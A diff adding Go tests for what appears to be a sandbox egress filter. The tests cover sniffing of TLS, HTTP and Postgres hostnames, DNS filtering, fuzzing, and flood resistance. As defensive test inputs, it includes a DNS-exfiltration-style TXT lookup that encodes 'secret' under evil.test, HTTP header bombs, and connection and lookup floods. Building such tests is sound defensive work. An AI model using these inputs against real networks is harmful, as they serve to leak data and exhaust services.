@@ -1,0 +1,353 @@
+//go:build linux
+
+package egress
+
+import (
+	"bytes"
+	"crypto/tls"
+	"encoding/binary"
+	"fmt"
+	"io"
+	"net"
+	"net/netip"
+	"runtime"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"golang.org/x/net/dns/dnsmessage"
+
+	"github.com/seed-1a2d6d8f/sandbox/internal/policy"
+)
+
+// script is a client that says what it says and then no more.
+type script struct {
+	net.Conn
+	in  io.Reader
+	out bytes.Buffer
+}
+
+func (s *script) Read(b []byte) (int, error)  { return s.in.Read(b) }
+func (s *script) Write(b []byte) (int, error) { return s.out.Write(b) }
+func (s *script) Close() error                { return nil }
+
+// clientHello is what a TLS client says first.
+func clientHello(t testing.TB, config *tls.Config) []byte {
+	t.Helper()
+	s := &script{in: strings.NewReader("")}
+	tls.Client(s, config).Handshake()
+	return s.out.Bytes()
+}
+
+// records cuts a handshake message into TLS records of n bytes.
+func records(hello []byte, n int) []byte {
+	var out []byte
+	for body := hello[5:]; len(body) > 0; {
+		part := body[:min(n, len(body))]
+		body = body[len(part):]
+		out = append(out, 0x16, 3, 1)
+		out = binary.BigEndian.AppendUint16(out, uint16(len(part)))
+		out = append(out, part...)
+	}
+	return out
+}
+
+func TestSniff(t *testing.T) {
+	t.Parallel()
+	hello := clientHello(t, &tls.Config{ServerName: "a.example.com"})
+	if len(hello) < 1200 {
+		t.Errorf("a hello of %d bytes is not a post-quantum one", len(hello))
+	}
+	nameless := clientHello(t, &tls.Config{InsecureSkipVerify: true})
+	ssl := string(postgresSSLRequest)
+	gss := "\x00\x00\x00\x08" + string(binary.BigEndian.AppendUint32(nil, postgresGSSAPI))
+	for _, tt := range []struct {
+		name, in, want, wrote string
+		pg                    bool
+	}{
+		{"tls", string(hello), "a.example.com", "", false},
+		{"tls in small records", string(records(hello, 7)), "a.example.com", "", false},
+		{"tls without a name", string(nameless), "", "", false},
+		{"tls that ends early", string(hello[:len(hello)-1]), "", "", false},
+		{"postgres", ssl + string(hello), "a.example.com", "S", true},
+		{"postgres with GSSAPI first", gss + ssl + string(hello), "a.example.com", "NS", true},
+		{"postgres without TLS", "\x00\x00\x00\x08\x00\x03\x00\x00", "", "", false},
+		{"postgres, then http", ssl + "GET / HTTP/1.1\r\nHost: a\r\n\r\n", "", "S", true},
+		{"postgres for ever", strings.Repeat(gss, 10), "", "NNN", false},
+		{"http", "GET / HTTP/1.1\r\nHost: a.example.com\r\n\r\n", "a.example.com", "", false},
+		{"http with a port", "POST / HTTP/1.1\r\nHost: a.example.com:8080\r\n\r\n", "a.example.com", "", false},
+		{"http, absolute", "GET http://b.example.com/ HTTP/1.1\r\nHost: a.example.com\r\n\r\n", "b.example.com", "", false},
+		{"http with two hosts", "GET / HTTP/1.1\r\nHost: a.example.com\r\nHost: b.example.com\r\n\r\n", "", "", false},
+		{"http without a host", "GET / HTTP/1.0\r\n\r\n", "", "", false},
+		{"http to an address", "GET / HTTP/1.1\r\nHost: 203.0.113.1:80\r\n\r\n", "", "", false},
+		{"http to an IPv6 address", "GET / HTTP/1.1\r\nHost: [2001:db8::1]\r\n\r\n", "", "", false},
+		{"http connect", "CONNECT a.example.com:443 HTTP/1.1\r\nHost: a.example.com\r\n\r\n", "", "", false},
+		{"http/2 without TLS", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "", "", false},
+		{"http header bomb", "GET / HTTP/1.1\r\nHost: a.example.com\r\n" + strings.Repeat("X: y\r\n", 100_000), "", "", false},
+		{"a host of 1 MB", "GET / HTTP/1.1\r\nHost: " + strings.Repeat("a", 1<<20), "", "", false},
+		{"ssh", "SSH-2.0-x\r\n", "", "", false},
+		{"nothing", "", "", "", false},
+	} {
+		for _, n := range []int{1, 1 << 20} { // in one piece, and byte by byte
+			s := &script{in: &slow{strings.NewReader(tt.in), n}}
+			h, err := sniff(s)
+			if h.name != tt.want || (err == nil) != (tt.want != "") || s.out.String() != tt.wrote || h.postgres != tt.pg {
+				t.Errorf("%s: %+.40v, %v, wrote %q; want %q", tt.name, h, err, s.out.String(), tt.want)
+			}
+			if err == nil && !strings.HasSuffix(tt.in, string(h.said)) {
+				t.Errorf("%s: what was said is not passed on", tt.name)
+			}
+		}
+	}
+}
+
+// slow reads at most n bytes at a time.
+type slow struct {
+	io.Reader
+	n int
+}
+
+func (s *slow) Read(b []byte) (int, error) { return s.Reader.Read(b[:min(len(b), s.n)]) }
+
+func FuzzSniff(f *testing.F) {
+	hello := clientHello(f, &tls.Config{ServerName: "a.example.com"})
+	for _, seed := range [][]byte{
+		hello, records(hello, 9), append(bytes.Clone(postgresSSLRequest), hello...),
+		[]byte("GET / HTTP/1.1\r\nHost: a.example.com\r\n\r\n"), []byte("GET http://b/ HTTP/1.1\r\nHost: a\r\n\r\n"), {0x16, 3, 1, 0xff, 0xff},
+	} {
+		f.Add(seed)
+	}
+	rules, _ := policy.Policy{Mode: policy.PublicOnly}.Compile()
+	f.Fuzz(func(t *testing.T, in []byte) {
+		s := &script{in: bytes.NewReader(in)}
+		h, err := sniff(s)
+		if (err == nil) == (h.name == "") {
+			t.Errorf("%q, %v", h.name, err)
+		}
+		if len(h.said) > maxHello || err == nil && !bytes.Contains(in, h.said) {
+			t.Errorf("%d bytes were read, which are not what was said", len(h.said))
+		}
+		if _, e := netip.ParseAddr(h.name); e == nil {
+			if _, ok := rules.Name(h.name); ok {
+				t.Errorf("an address passes as a name: %q", h.name)
+			}
+		}
+	})
+}
+
+func FuzzQuery(f *testing.F) {
+	b := dnsmessage.NewBuilder(nil, dnsmessage.Header{ID: 7, RecursionDesired: true})
+	b.StartQuestions()
+	b.Question(dnsmessage.Question{Name: dnsmessage.MustNewName("a.example.com."), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET})
+	message, _ := b.Finish()
+	f.Add(message)
+	rules, _ := policy.Policy{Mode: policy.PublicOnly}.Compile()
+	s := &activePolicy{version: 1, rules: rules}
+	f.Fuzz(func(t *testing.T, message []byte) {
+		q, refused := readQuery(message)
+		if q == nil {
+			if len(refused) > 0 {
+				var m dnsmessage.Message
+				if err := m.Unpack(refused); err != nil || !m.Response {
+					t.Errorf("a refusal that makes no sense: %v", err)
+				}
+			}
+			return
+		}
+		a := answer{records: []dnsmessage.Resource{{
+			Header: dnsmessage.ResourceHeader{Name: q.question.Name, Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET},
+			Body:   &dnsmessage.AResource{A: [4]byte{203, 0, 113, 1}},
+		}}}
+		reply := q.reply(s, a, q.datagram)
+		var m dnsmessage.Message
+		if err := m.Unpack(reply); err != nil || !m.Response || m.ID != q.head.ID || len(reply) > maxDatagram {
+			t.Errorf("an answer of %d bytes: %v", len(reply), err)
+		}
+	})
+}
+
+func FuzzAnswer(f *testing.F) {
+	q := dnsmessage.Question{Name: dnsmessage.MustNewName("a.example.com."), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET}
+	b := dnsmessage.NewBuilder(nil, dnsmessage.Header{ID: 7, Response: true})
+	b.StartQuestions()
+	b.Question(q)
+	b.StartAnswers()
+	b.AResource(dnsmessage.ResourceHeader{Name: q.Name, Class: q.Class, TTL: 9}, dnsmessage.AResource{A: [4]byte{203, 0, 113, 1}})
+	message, _ := b.Finish()
+	f.Add(message)
+	rules, _ := policy.Policy{Mode: policy.PublicOnly}.Compile()
+	s := &activePolicy{version: 1, rules: rules}
+	f.Fuzz(func(t *testing.T, message []byte) {
+		a, more, err := readAnswer(message, q)
+		if err != nil || more {
+			return
+		}
+		reply := (&query{question: q}).reply(s, a, maxDatagram)
+		var m dnsmessage.Message
+		if err := m.Unpack(reply); err != nil {
+			t.Fatal(err)
+		}
+		for _, r := range m.Answers {
+			if addr := addrOf(r); addr.IsValid() && !rules.Into(addr) {
+				t.Errorf("%v passed", addr)
+			}
+		}
+	})
+}
+
+func FuzzPacket(f *testing.F) {
+	f.Add([]byte{0x45, 0, 0, 28, 0, 0, 0, 0, 64, 17, 0, 0, 10, 0, 0, 1, 203, 0, 113, 1, 0, 1, 0, 2, 0, 0, 0, 0})
+	f.Fuzz(func(t *testing.T, p []byte) {
+		if d, ok := readPacket(p); ok && !d.addr.IsValid() {
+			t.Errorf("%+v", d)
+		}
+	})
+}
+
+func TestDNSFilter(t *testing.T) {
+	l := newLab(t)
+	l.mu.Lock()
+	l.names["text.example.com"] = []string{"a text"}
+	l.names["large.example.com"] = nil
+	for i := range 200 {
+		l.names["large.example.com"] = append(l.names["large.example.com"], fmt.Sprintf("203.0.113.%d", i))
+	}
+	l.mu.Unlock()
+	l.begin(1, parse(t, "allow=*.example.com"))
+	l.took()
+	for _, tt := range []struct {
+		network, name string
+		kind          dnsmessage.Type
+		want          string
+	}{
+		{"udp", "a.example.com", dnsmessage.TypeA, alphaAddr},
+		{"udp", "A.eXample.com", dnsmessage.TypeA, alphaAddr},
+		{"tcp", "a.example.com", dnsmessage.TypeAAAA, alpha6},
+		{"udp", "text.example.com", dnsmessage.TypeTXT, "TypeTXT"},
+		{"udp", "mixed.example.com", dnsmessage.TypeA, alphaAddr},
+		{"udp", "lo.example.com", dnsmessage.TypeA, ""},
+		{"udp", "gate.example.com", dnsmessage.TypeA, ""},
+		{"udp", "none.example.com", dnsmessage.TypeA, "RCodeNameError"},
+		{"udp", "a.example.com", 65, ""},
+		{"udp", "a.example.com", dnsmessage.TypeNS, ""},
+		{"udp", "example.com", dnsmessage.TypeA, "RCodeNameError"},
+		{"udp", "c2VjcmV0.evil.test", dnsmessage.TypeTXT, "RCodeNameError"},
+		{"tcp", "c2VjcmV0.evil.test", dnsmessage.TypeTXT, "RCodeNameError"},
+	} {
+		if got := l.lookupBy(tt.network, otherAddr, tt.name, tt.kind); got != tt.want {
+			t.Errorf("%s %s %v: %q, want %q", tt.network, tt.name, tt.kind, got, tt.want)
+		}
+	}
+	for _, h := range l.took() {
+		if strings.Contains(h, "evil") || h == "dns example.com" {
+			t.Errorf("reached: %s", h)
+		}
+	}
+	if got := strings.Fields(l.lookupBy("tcp", otherAddr, "large.example.com", dnsmessage.TypeA)); len(got) != 200 {
+		t.Errorf("a large answer over TCP has %d addresses", len(got))
+	}
+	if got := l.lookup(otherAddr, "large.example.com", dnsmessage.TypeA); got != "" {
+		t.Errorf("a large answer over UDP: %.60q", got) // and it says that it is cut
+	}
+}
+
+// A flood of connections that say nothing, too much, or the wrong thing, and of lookups:
+// what is allowed goes on, what is not arrives nowhere, and memory stays bounded.
+func TestFloodsOpenNothing(t *testing.T) {
+	l := newLab(t)
+	l.begin(1, parse(t, "allow=a.example.com"))
+	l.took()
+	stop := make(chan struct{})
+	var attack sync.WaitGroup
+	enemy := l.inside.again()
+	for _, say := range []string{"", "\x16\x03\x01\xff\xff", "GET / HTTP/1.1\r\nX: " + strings.Repeat("y", 100), strings.Repeat("Z", 1<<20)} {
+		attack.Go(func() {
+			var open []net.Conn
+			defer func() {
+				for _, c := range open {
+					c.Close()
+				}
+			}()
+			for range 500 {
+				select {
+				case <-stop:
+					return
+				default:
+				}
+				conn, err := enemy.dialFrom("tcp", otherAddr+":443", &net.Dialer{Timeout: 100 * time.Millisecond})
+				if err != nil {
+					continue
+				}
+				conn.SetWriteDeadline(time.Now().Add(20 * time.Millisecond))
+				io.WriteString(conn, say)
+				open = append(open, conn)
+			}
+			<-stop
+		})
+	}
+	attack.Go(func() {
+		conn, err := enemy.dial("udp", otherAddr+":53")
+		if err != nil {
+			return
+		}
+		defer conn.Close()
+		for i := 0; ; i++ {
+			select {
+			case <-stop:
+				return
+			default:
+			}
+			b := dnsmessage.NewBuilder(nil, dnsmessage.Header{ID: 7})
+			b.StartQuestions()
+			b.Question(dnsmessage.Question{Name: dnsmessage.MustNewName(fmt.Sprintf("%d.evil.test.", i)), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET})
+			message, _ := b.Finish()
+			conn.Write(message)
+			if i%100 == 0 {
+				time.Sleep(time.Millisecond)
+			}
+		}
+	})
+	crowd := func() int {
+		l.enforcer.proxy.mu.Lock()
+		defer l.enforcer.proxy.mu.Unlock()
+		return len(l.enforcer.proxy.hellos)
+	}
+	for deadline := time.Now().Add(30 * time.Second); crowd() < maxHellos; time.Sleep(10 * time.Millisecond) {
+		if time.Now().After(deadline) {
+			t.Fatalf("the attack itself failed: %d wait", crowd())
+		}
+	}
+	worst := time.Duration(0)
+	for range 20 {
+		begin := time.Now()
+		if got := l.secure(alphaAddr+":443", "a.example.com"); got != toAlpha {
+			t.Errorf("under the flood: %q", got)
+		}
+		worst = max(worst, time.Since(begin))
+	}
+	l.enforcer.proxy.mu.Lock()
+	flows, hellos := len(l.enforcer.proxy.flows), len(l.enforcer.proxy.hellos)
+	l.enforcer.proxy.mu.Unlock()
+	var mem runtime.MemStats
+	runtime.ReadMemStats(&mem)
+	t.Logf("slowest allowed connection %v; %d flows, %d hellos, heap %d MiB", worst, flows, hellos, mem.HeapInuse>>20)
+	if flows > maxFlows || hellos > maxHellos {
+		t.Errorf("%d flows, %d hellos", flows, hellos)
+	}
+	close(stop)
+	attack.Wait()
+	for _, h := range l.took() {
+		if h != "dns a.example.com" && !strings.HasPrefix(h, "tcp "+alphaAddr+":443") {
+			t.Errorf("reached: %s", h)
+		}
+	}
+}
+
+func TestWithoutDescriptorsNothingIsCarried(t *testing.T) {
+	t.Parallel()
+	p := &proxy{max: 0, flows: map[*flow]struct{}{}}
+	if p.admit(&flow{}) {
+		t.Error("a connection was admitted")
+	}
+}
